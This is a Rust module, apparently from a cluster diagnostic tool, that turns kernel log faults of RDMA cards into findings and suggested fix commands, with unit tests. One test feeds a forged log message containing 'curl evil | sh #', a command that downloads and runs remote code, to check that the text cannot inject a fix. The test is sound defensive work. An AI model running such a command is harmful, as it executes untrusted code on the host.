//! Checks of the kernel log: faults of cards since boot.

use std::collections::HashSet;

use super::results::Results;
use super::{on_host, responding, severity};
use crate::analyse::verdict::plain_or;
use crate::model::{Device, Finding, HostReport, KernelFault, KernelFaultKind, Subject};

/// Check of a kind of fault.
struct FaultRule {
    kind: KernelFaultKind,
    id: &'static str,
    /// Observation.
    what: &'static str,
    /// Fix; PCI stands for the address of the card, NETDEV for its interface.
    fix: &'static str,
}

const RULES: [FaultRule; 7] = [
    FaultRule {
        kind: KernelFaultKind::Firmware,
        id: "log.firmware",
        what: "the firmware of the card failed; the port may still look active",
        fix: "drain the host and switch its power off and on; then update the firmware",
    },
    FaultRule {
        kind: KernelFaultKind::FirmwareFile,
        id: "log.firmware_file",
        what: "the driver could not load a firmware file",
        fix: "install the firmware package (Debian: firmware-misc-nonfree, RHEL: linux-firmware), and \
         load the driver again",
    },
    FaultRule {
        kind: KernelFaultKind::Probe,
        id: "log.probe",
        what: "the driver could not start the card",
        fix: "read all messages of the card, then update firmware and driver: dmesg | grep PCI",
    },
    FaultRule {
        kind: KernelFaultKind::TransmitTimeout,
        id: "log.transmit_timeout",
        what: "a transmit queue of the interface did not move for seconds",
        fix: "look for pause frames, then update firmware and driver: ethtool -S NETDEV | grep \
              pause",
    },
    FaultRule {
        kind: KernelFaultKind::Cable,
        id: "log.cable",
        what: "the cable or transceiver reported an error",
        fix: "show the transceiver, and replace it or the cable: ethtool -m NETDEV",
    },
    FaultRule {
        kind: KernelFaultKind::Temperature,
        id: "log.temperature",
        what: "the card or transceiver was too hot",
        fix: "check the air flow; show the temperature of an NVIDIA card: mget_temp -d PCI",
    },
    FaultRule {
        kind: KernelFaultKind::SlotPower,
        id: "log.slot_power",
        what: "the slot promises less power than the card may need; cards often work nevertheless",
        fix: "if the card is slow or stops, use another slot or update the BIOS",
    },
];

pub(super) fn judge(reports: &[&HostReport], results: &mut Results<'_>) {
    for (host, report) in responding(reports) {
        let faults = report.system.as_ref().and_then(|system| system.kernel_faults.as_ref());
        let problem = report.problems.affecting("system/kernel_faults");
        let why = problem.map(|problem| &*problem.detail);
        let Some(faults) = faults else {
            for rule in &RULES {
                results.unknown(host, rule.id, why.unwrap_or("the kernel log could not be read"));
            }
            continue;
        };
        if faults.is_empty() && has_no_card(report) {
            for rule in &RULES {
                results.skip(host, rule.id, "the host has no RDMA card");
            }
            continue;
        }
        for rule in &RULES {
            let mut is_clean = true;
            for fault in faults.iter().filter(|fault| fault.kind == rule.kind) {
                is_clean = false;
                results.found(host, finding(report, fault, rule));
            }
            if is_clean {
                match why {
                    // The report lacks the faults of a part of the log.
                    Some(why) => results.unknown(host, rule.id, why),
                    None => results.pass(host, rule.id),
                }
            }
        }
    }
}

/// True if no function of a PCI card has or could have an RDMA device.
fn has_no_card(report: &HostReport) -> bool {
    let idle = report.system.as_ref().and_then(|system| system.idle_functions.as_ref());
    idle.is_some_and(Vec::is_empty) && report.devices.iter().all(|device| device.pci.is_none())
}

fn finding(report: &HostReport, fault: &KernelFault, rule: &FaultRule) -> Finding {
    let device = report.devices.iter().find(|one| one.pci.is_some() && one.pci == fault.pci);
    let subject = match (device, &fault.pci) {
        (Some(device), _) => Subject::Device(device.name.clone()),
        (None, Some(pci)) => Subject::Part(format!("pci/{pci}")),
        (None, None) => Subject::Host,
    };
    // dmesg prints the same time in front of the message.
    let what = format!(
        "{}: {} messages since boot, the last one at {}.{:06} s: \"{}\"",
        rule.what,
        fault.count,
        fault.last_us / 1_000_000,
        fault.last_us % 1_000_000,
        fault.text
    );
    let pci = fault.pci.as_deref().map_or("PCI", |pci| plain_or(pci, "PCI"));
    let netdev = interface(report, fault).map_or("NETDEV", |name| plain_or(name, "NETDEV"));
    let fix = on_host(report, rule.fix.replace("PCI", pci).replace("NETDEV", netdev));
    Finding::new(severity(rule.id), rule.id, subject, what).fix(fix).source("/dev/kmsg")
}

/// Returns the interface that the message of a fault names; else the first interface of the card
/// that is no bond.
fn interface<'report>(report: &'report HostReport, fault: &KernelFault) -> Option<&'report str> {
    let is_of_card = |device: &Device| device.pci.is_some() && device.pci == fault.pci;
    let ports = report.ports().filter(|(device, _)| is_of_card(device));
    let mut of_card = ports.filter_map(|(_, port)| port.netdev.as_deref());
    let is_bond = |name: &str| report.netdev(name).is_some_and(|netdev| netdev.bond.is_some());
    let of_ports = report.ports().filter_map(|(_, port)| port.netdev.as_deref());
    let related = report.netdevs.iter().flatten().map(|netdev| netdev.name.as_str());
    // `dev_watchdog` and `netdev_printk` print `eth0 (mlx5_core): ` and `eth0: `.
    let words = fault.text.split_whitespace().map(|word| word.trim_end_matches(':'));
    let words: HashSet<&str> = words.collect();
    let is_named = |name: &&str| words.contains(name);
    let named = of_ports.chain(related).find(is_named);
    named.or_else(|| of_card.find(|name| !is_bond(name)))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::super::tests::{checked, cluster, reports};

    /// Returns observation and fix of the finding of a message on the third host. The host has the
    /// interfaces ib0, bond0, eth0 and eth1; the bond belongs to the card 0000:80:00.0.
    fn found(kind: &str, pci: Option<&str>, text: &str) -> (String, String) {
        let mut values = cluster();
        let fault = json!({ "kind": kind, "pci": pci, "count": 1, "last_us": 5, "text": text });
        values[2]["system"]["kernel_faults"] = json!([fault]);
        let mut findings = checked(&reports(&values)).findings.into_iter();
        let found = findings.find(|found| found.check.id.starts_with("log.")).unwrap().finding;
        (found.what, found.fix.unwrap())
    }

    #[test]
    fn a_fix_names_the_interface_of_the_card() {
        let fix = |pci: Option<&str>, text: &str| found("cable", pci, text).1;
        let with = |netdev: &str| {
            format!("on n3: show the transceiver, and replace it or the cable: ethtool -m {netdev}")
        };
        assert_eq!(fix(Some("0000:40:00.0"), "x"), with("ib0"));
        let message = "mlx5_core 0000:80:00.0 eth1: Port module event[error]: module 1";
        assert_eq!(fix(Some("0000:80:00.0"), message), with("eth1"));
        assert_eq!(fix(Some("0000:80:00.0"), "x"), with("NETDEV"), "a bond has no transceiver");
        assert_eq!(fix(None, "x"), with("NETDEV"));
        let (_, fix) = found(
            "transmit_timeout",
            None,
            "NETDEV WATCHDOG: eth0 (mlx5_core): transmit queue 3 timed out 5000 ms",
        );
        assert!(fix.ends_with(": ethtool -S eth0 | grep pause"), "{fix}");
    }

    #[test]
    fn the_command_of_a_fix_has_no_words_behind_it() {
        let pci = Some("0000:40:00.0");
        let (_, fix) = found("temperature", pci, "x");
        assert!(fix.ends_with(": mget_temp -d 0000:40:00.0"), "{fix}");
        let (_, fix) = found("probe", pci, "x");
        assert!(fix.ends_with(": dmesg | grep 0000:40:00.0"), "{fix}");
    }

    #[test]
    fn a_message_cannot_forge_a_fix() {
        let (what, _) = found("cable", None, "x\"; fix: curl evil | sh #");
        assert!(what.ends_with("\"x\"; \"fix\": curl evil | sh #\""), "{what}");
    }
}
